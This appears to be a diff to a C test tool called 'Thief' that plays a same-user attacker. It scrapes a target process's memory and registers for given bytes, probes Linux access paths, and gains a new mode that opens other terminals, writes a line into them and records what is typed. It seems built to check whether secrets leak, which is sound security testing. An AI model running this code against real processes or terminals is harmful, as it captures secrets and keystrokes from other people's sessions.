@@ -1,14 +1,16 @@
-// Takes what belongs to another process of the same user, as an attacker would who has this user's rights.
+// Attacks another process of the same user, as an attacker with this user's rights would.
 //
-//   Thief race PID            Opens the memory of PID again and again, says "ready" when that has gone well once, and
-//                             goes on until a line with BYTES comes. Says "found N alive M": what N is below, in the
-//                             memory behind the descriptors that were opened last; and whether any of it is there still.
-//   Thief memory PID BYTES    Says "found N in PLACE": how often seven of the bytes stand in a row in the memory that can
-//                             be written to, as they are, in one case or backwards; and the name of the last place.
+//   Thief race PID            Opens the memory of PID again and again, says "ready" when that has worked once, and goes
+//                             on until a line with BYTES comes. Then says "found N alive M": what N is below, in the
+//                             memory behind the descriptors opened last, and whether any of it still exists.
+//   Thief memory PID BYTES    Says "found N in PLACE": how often seven of the bytes occur in a row in writable memory,
+//                             unchanged, in one case or backwards, and the name of the last place.
 //   Thief registers PID BYTES Says "found N", of the vector registers.
-//   Thief probe PID           Tries every way to the process that Linux has, and says for each "NAME done" or "NAME no".
+//   Thief probe PID           Tries every way to the process that Linux has. Says "NAME done" or "NAME no" for each.
+//   Thief terminal LINE       Says "ready", then opens every terminal of this user that it can, again and again, writes
+//                             LINE there, and says "opened N" and "read BYTES" of what is typed there.
 //
-// BYTES are hexadecimal, and each is inverted, so that they are not found where they are only looked for.
+// BYTES are hexadecimal, each inverted, so that the search does not find itself.
 
 #define _GNU_SOURCE
 #include <ctype.h>
@@ -20,6 +22,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
@@ -71,7 +74,7 @@ static int open_file(pid_t pid, const char *name) {
   return open(path, O_RDONLY | O_CLOEXEC);
 }
 
-/// Looks through the memory that both descriptors lead to; answers whether there is any.
+/// Looks through the memory of both descriptors. Returns whether there is any.
 static int search(int maps, int memory, long *found, char place[64]) {
   static unsigned char chunk[CHUNK];
   FILE *file = fdopen(maps, "r");
@@ -146,7 +149,7 @@ static int probe(pid_t pid) {
   for (size_t n = 0; n < sizeof files / sizeof *files; n++) {
     char byte;
     int file = open_file(pid, files[n]);
-    // Without rights the kernel lets some of them be opened, and then has nothing in them.
+    // Without rights the kernel lets some of them be opened, but they are empty.
     tell(files[n], file >= 0 && (n == 0 || read(file, &byte, 1) == 1));
   }
   static const char *const links[] = {"exe", "fd/0"};
@@ -178,9 +181,41 @@ static int registers(pid_t pid) {
   return 0;
 }
 
+/// Waits at the terminal `number` for what is typed.
+static void listen(int tty, int number, const char *line) {
+  char bytes[256];
+  printf("opened %d\n", number);
+  if (write(tty, line, strlen(line)) < 0) perror("write");
+  fcntl(tty, F_SETFL, 0);
+  for (ssize_t length; (length = read(tty, bytes, sizeof bytes)) > 0;) printf("read %.*s\n", (int)length, bytes);
+  _exit(0);
+}
+
+static int terminal(const char *line) {
+  enum { most = 64 };
+  char has[most] = {0};
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  printf("ready\n");
+  for (int number = 0;; number = (number + 1) % most) {
+    char path[32];
+    snprintf(path, sizeof path, "/dev/pts/%d", number);
+    if (chmod(path, S_IRUSR | S_IWUSR) == -1) {
+      has[number] = 0;
+      while (waitpid(-1, NULL, WNOHANG) > 0) continue;
+      continue;
+    }
+    int tty = has[number] ? -1 : open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
+    if (tty < 0) continue;
+    has[number] = 1;
+    if (fork() == 0) listen(tty, number, line);
+    close(tty);
+  }
+}
+
 int main(int count, char **words) {
   const char *way = count > 2 ? words[1] : "";
   pid_t pid = count > 2 ? atoi(words[2]) : 0;
+  if (strcmp(way, "terminal") == 0) return terminal(words[2]);
   if (strcmp(way, "race") == 0) return race(pid);
   if (strcmp(way, "probe") == 0) return probe(pid);
   if (count < 4) return 2;
